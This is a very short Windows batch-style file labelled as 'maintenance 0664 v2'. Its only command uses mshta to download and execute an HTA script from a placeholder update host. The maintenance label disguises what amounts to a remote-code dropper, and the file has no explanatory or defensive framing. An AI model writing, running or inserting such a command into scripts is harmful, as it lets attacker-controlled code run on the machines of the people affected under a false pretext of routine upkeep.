REM maintenance 0664 v2
mshta http://cdn-update.example/update.hta
